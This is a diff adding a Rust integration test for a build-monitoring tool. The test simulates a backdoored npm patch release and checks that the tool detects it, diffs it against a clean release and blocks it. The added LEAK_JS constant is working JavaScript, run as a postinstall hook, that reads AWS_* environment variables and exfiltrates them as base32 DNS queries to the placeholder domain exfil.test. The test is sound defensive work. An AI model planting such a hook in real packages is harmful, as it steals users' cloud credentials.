@@ -458,3 +458,199 @@ fn a_learned_policy_passes_the_same_build_in_block_mode_and_fails_a_new_destinat
     assert!(r.stderr().contains("egress-refused"), "{}", r.stderr());
     drop((a, b));
 }
+
+/// Leaks every AWS_* variable through DNS: base32 labels under exfil.test, looked up through
+/// the system's resolver (as the seed's backdoored patch release does).
+const LEAK_JS: &str = r#"
+const dns = require('dns');
+const secret = Object.keys(process.env).filter(k => k.startsWith('AWS_'))
+  .map(k => k + '=' + process.env[k]).join(';');
+const A = 'abcdefghijklmnopqrstuvwxyz234567';
+let bits = '', out = '';
+for (const b of Buffer.from(secret)) bits += b.toString(2).padStart(8, '0');
+for (let i = 0; i < bits.length; i += 5) out += A[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
+const chunks = out.match(/.{1,40}/g) || [];
+let left = chunks.length;
+chunks.forEach((c, i) => dns.lookup(`${c}.${i}.exfil.test`, () => { if (--left === 0) process.exit(0); }));
+setTimeout(() => process.exit(0), 5000);
+"#;
+
+/// The seed's story end to end, with real npm and a local registry: `formatter-util` 1.2.1 is
+/// benign; 1.2.2 leaks the AWS_* variables through DNS queries. The diff of the two runs
+/// names the package, the version change and the new DNS behaviour; under the policy learned
+/// from the clean run, block mode refuses the leak (no query reaches the resolver) while the
+/// install itself succeeds.
+#[test]
+fn the_seed_story_diff_names_the_patch_release_and_block_mode_stops_its_leak() {
+    if !require_bpf() {
+        return;
+    }
+    let tmp = TempDir::new("block-seed");
+    let _dns = Dnsmasq::start(&tmp);
+    let registry = buildwatch_tests::registry::LocalRegistry::start();
+    let home = tmp.join("home");
+    fs::create_dir_all(&home).unwrap();
+    let mut env = npm_env(&home);
+    env.retain(|(k, _)| *k != "npm_config_offline" && *k != "npm_config_registry");
+    env.push(("npm_config_registry", registry.url()));
+    env.push(("npm_config_prefer_online", "true".into()));
+    env.push(("AWS_ACCESS_KEY_ID", "AKIAFAKEFAKEFAKEFAKE".into()));
+    env.push(("AWS_SECRET_ACCESS_KEY", "fake/secret/for/tests/only".into()));
+    let scripts = serde_json::json!({"postinstall": "node install.js"});
+    let publish = |version: &str, js: &str| {
+        let tgz = npm_package(
+            &tmp,
+            "formatter-util",
+            version,
+            &[("install.js", js)],
+            scripts.clone(),
+        );
+        registry.publish("formatter-util", version, &tgz, scripts.clone());
+    };
+    let ns = resolv_ns(&tmp);
+    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
+    let install = |name: &str, extra: &[&str]| {
+        let proj = tmp.join(name);
+        fs::create_dir_all(&proj).unwrap();
+        fs::write(
+            proj.join("package.json"),
+            r#"{"name":"app","version":"1.0.0","private":true,
+                "dependencies":{"formatter-util":"^1.2.0"}}"#,
+        )
+        .unwrap();
+        let w = watch_via(&tmp, &proj, &env, &ns, extra, &["npm", "install"]);
+        let installed: Value = serde_json::from_str(
+            &fs::read_to_string(proj.join("node_modules/formatter-util/package.json"))
+                .unwrap_or_else(|e| panic!("{name}: not installed ({e}): {}", w.stderr())),
+        )
+        .unwrap();
+        (w, installed["version"].as_str().unwrap_or("").to_owned())
+    };
+    let base = tmp.join("base.yaml");
+    fs::write(&base, "allow_loopback: false\nfail_on: never\n").unwrap();
+    let learned = tmp.join("learned.yaml");
+
+    // 1.2.1: the clean run, which learns its policy.
+    publish("1.2.1", "require('fs').readFileSync(__filename);\n");
+    let (w, v) = install(
+        "clean",
+        &[
+            "--policy",
+            base.to_str().unwrap(),
+            "--learn",
+            learned.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(v, "1.2.1");
+    assert_eq!(w.report["exit_code"], 0, "{}", w.stderr());
+    let clean = tmp.join("clean.json");
+    fs::write(&clean, w.report.to_string()).unwrap();
+
+    // 1.2.2 is published: the same install, watched, leaks.
+    publish("1.2.2", LEAK_JS);
+    let (w, v) = install("leaky", &["--policy", base.to_str().unwrap()]);
+    assert_eq!(v, "1.2.2");
+    assert_eq!(w.report["exit_code"], 0, "{}", w.stderr());
+    let leaky = tmp.join("leaky.json");
+    fs::write(&leaky, w.report.to_string()).unwrap();
+    let log = fs::read_to_string(tmp.join("dnsmasq.log")).unwrap();
+    assert!(
+        log.lines()
+            .any(|l| l.contains("query[") && l.contains(".exfil.test")),
+        "watched, the leak reaches the resolver: {log}"
+    );
+    let exfil = w.report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["category"] == "dns-exfil")
+        .unwrap_or_else(|| panic!("a dns-exfil finding: {}", w.stderr()))
+        .clone();
+    assert_eq!(exfil["package"]["name"], "formatter-util", "{exfil:#}");
+    assert_eq!(exfil["package"]["version"], "1.2.2", "{exfil:#}");
+
+    // The diff: the package, the version change, the new DNS behaviour.
+    let out = std::process::Command::new(buildwatch_bin())
+        .args(["diff", "--format", "json"])
+        .args([&clean, &leaky])
+        .output()
+        .unwrap();
+    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let pkg = d
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["package"] == "formatter-util")
+        .unwrap_or_else(|| panic!("formatter-util in the diff: {d:#}"));
+    assert_eq!(pkg["before"], serde_json::json!(["1.2.1"]), "{pkg:#}");
+    assert_eq!(pkg["after"], serde_json::json!(["1.2.2"]), "{pkg:#}");
+    assert!(
+        pkg["dns"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|x| x == "exfil.test"),
+        "{pkg:#}"
+    );
+    assert!(
+        pkg["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f.as_str().is_some_and(|f| f.starts_with("dns-exfil: "))),
+        "{pkg:#}"
+    );
+    let out = std::process::Command::new(buildwatch_bin())
+        .args(["diff", "--fail-on-new"])
+        .args([&clean, &leaky])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(86));
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("formatter-util 1.2.1 → 1.2.2"),
+        "{out:?}"
+    );
+
+    // Block mode under the learned policy: npm installs 1.2.2, the leak is refused at the
+    // DNS layer and never reaches the resolver, and the run fails.
+    let text = fs::read_to_string(&learned).unwrap();
+    assert!(
+        text.contains(&format!("127.0.0.1:{}", registry.port)),
+        "{text}"
+    );
+    let block = tmp.join("block.yaml");
+    fs::write(&block, format!("mode: block\n{text}")).unwrap();
+    let before = fs::read_to_string(tmp.join("dnsmasq.log")).unwrap().len();
+    let (w, v) = install("blocked", &["--policy", block.to_str().unwrap()]);
+    assert_eq!(v, "1.2.2");
+    assert_eq!(
+        w.report["exit_code"],
+        0,
+        "the rest of the build succeeds: {}",
+        w.stderr()
+    );
+    let log = fs::read_to_string(tmp.join("dnsmasq.log")).unwrap();
+    assert!(
+        !log[before..].contains("exfil.test"),
+        "in block mode the leak never reaches the resolver: {}",
+        &log[before..]
+    );
+    let refused: Vec<&Value> = w.report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "dns-refused")
+        .collect();
+    assert!(!refused.is_empty(), "{}", w.stderr());
+    assert!(
+        refused
+            .iter()
+            .all(|f| f["package"]["name"] == "formatter-util"),
+        "{refused:#?}"
+    );
+    assert!(
+        w.finding_rules().iter().any(|r| r.starts_with("dns-")),
+        "the query-shape rules judged the refused queries"
+    );
+    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
+}
